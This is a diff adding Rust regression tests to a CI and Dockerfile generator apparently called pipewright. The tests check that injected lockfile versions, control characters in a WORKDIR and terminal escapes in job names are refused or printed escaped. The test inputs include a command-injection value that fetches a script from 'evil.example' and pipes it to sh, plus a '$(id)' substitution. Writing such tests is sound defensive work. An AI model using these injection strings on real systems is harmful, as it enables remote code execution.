@@ -187,6 +187,73 @@ fn a_pom_version_cannot_inject_a_dockerfile_instruction() {
     assert!(dockerfile.contains("-name '*.jar'"), "{dockerfile}");
 }
 
+/// Found by the Gemfile.lock fuzz target: the lock's `BUNDLED WITH` went as it was into
+/// `gem install bundler -v …` in the Dockerfile and the job scripts, so `2.5.<<EOF` opened a
+/// heredoc (a Dockerfile pipewright's own validator rejected) and `2.5.6;…` ran a command.
+#[test]
+fn a_lockfile_version_is_never_a_shell_command() {
+    for bundled_with in [
+        "2.5.<<EOF",
+        "2.5.6;wget -qO- http://evil.example/x|sh",
+        "2.5.6 $(id)",
+    ] {
+        let repo = tempfile::tempdir().expect("tempdir");
+        copy_fixture("ruby-sinatra-rackup", repo.path());
+        let lock = repo.path().join("Gemfile.lock");
+        let text = std::fs::read_to_string(&lock).expect("lock");
+        let (head, _) = text.split_once("BUNDLED WITH").expect("BUNDLED WITH");
+        std::fs::write(&lock, format!("{head}BUNDLED WITH\n   {bundled_with}\n")).expect("write");
+        let (out, body) = generate_json(repo.path());
+        assert!(
+            out.status.success(),
+            "{bundled_with}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        for (name, text) in body["files"].as_object().expect("files") {
+            let text = text.as_str().expect("text");
+            for bad in ["<<EOF", "evil.example", "$(id)"] {
+                assert!(
+                    !text.contains(bad),
+                    "{bundled_with}: {name} holds {bad}\n{text}"
+                );
+            }
+        }
+    }
+}
+
+/// Found by the Dockerfile fuzz target: a kept Dockerfile's test-stage `WORKDIR` went into the
+/// pipeline's `APP_DIR` variable with a bidirectional override (U+202E) in it, unchecked.
+#[test]
+fn a_kept_dockerfile_workdir_with_a_control_character_is_refused_with_it_shown() {
+    for workdir in ["/\u{202e}/src", "/a\u{1b}[2J"] {
+        let repo = tempfile::tempdir().expect("tempdir");
+        go_service(repo.path(), "");
+        write(
+            repo.path(),
+            "Dockerfile",
+            &format!(
+                "FROM golang:1.22-bookworm AS deps\nWORKDIR {workdir}\nCOPY go.mod ./\nRUN go mod download\n\nFROM deps AS tests\nCOPY . .\nRUN go vet ./...\n\nFROM gcr.io/distroless/static-debian12\nCOPY --from=tests /src/app /app\nUSER 65532\nENTRYPOINT [\"/app\"]\n"
+            ),
+        );
+        let out = pipewright(&[
+            "generate",
+            "--template-only",
+            repo.path().to_str().expect("utf-8"),
+        ]);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "{workdir:?}: {stderr}");
+        assert!(
+            stderr.contains("holds a control character") && stderr.contains("\\u{"),
+            "{workdir:?}: {stderr}"
+        );
+        assert!(
+            !stderr.contains('\u{202e}') && !stderr.contains('\u{1b}'),
+            "{stderr:?}"
+        );
+        assert!(!repo.path().join(".gitlab-ci.yml").exists());
+    }
+}
+
 #[test]
 fn the_validator_flags_a_dockerfile_that_runs_a_download() {
     let dir = tempfile::tempdir().expect("tempdir");
@@ -503,4 +570,57 @@ fn terminal_escapes_in_folder_names_are_printed_escaped() {
         );
         assert!(all.contains("svc-\\u{1b}]0;pwned\\u{7}"), "{args:?}: {all}");
     }
+}
+
+/// A job name with escapes in a repository's own `.gitlab-ci.yml` reaches `pipewright watch`
+/// through GitLab: it is printed escaped too.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn terminal_escapes_in_job_names_are_printed_escaped_by_watch() {
+    use pipewright_adapters::fake_gitlab::{FakeGitLab, PipelineScript, FAKE_TOKEN};
+    // YAML's `\e` and `\a`: ESC and BEL, a title change.
+    let ci = "stages: [build]\n\"build-\\e]0;pwned\\a\":\n  stage: build\n  script: [make]\n";
+    let gitlab = FakeGitLab::start().await.expect("fake GitLab");
+    let project = gitlab.add_project("team/hostile", &[(".gitlab-ci.yml", ci)]);
+    gitlab.script_pipelines(
+        project,
+        PipelineScript::every(std::time::Duration::from_millis(40)),
+    );
+    let response = reqwest::Client::new()
+        .post(format!(
+            "{}/api/v4/projects/{project}/repository/commits",
+            gitlab.url()
+        ))
+        .header("PRIVATE-TOKEN", FAKE_TOKEN)
+        .json(&json!({"branch": "feature/x", "start_branch": "main",
+            "commit_message": "ci", "actions": [{"action": "update",
+            "file_path": ".gitlab-ci.yml", "content": format!("{ci}\n")}]}))
+        .send()
+        .await
+        .expect("commit");
+    assert_eq!(response.status().as_u16(), 201);
+    let url = gitlab.url();
+    let out = tokio::task::spawn_blocking(move || {
+        Command::new(env!("CARGO_BIN_EXE_pipewright"))
+            .args([
+                "watch",
+                &project.to_string(),
+                "--branch",
+                "feature/x",
+                "--interval",
+                "0.05",
+            ])
+            .env("GITLAB_URL", url)
+            .env("GITLAB_TOKEN", FAKE_TOKEN)
+            .env_remove("PIPEWRIGHT_POLL_INTERVAL")
+            .output()
+            .expect("run pipewright watch")
+    })
+    .await
+    .expect("join");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
+        "a raw escape: {stdout:?}"
+    );
+    assert!(stdout.contains("build-\\u{1b}]0;pwned\\u{7}"), "{stdout}");
 }
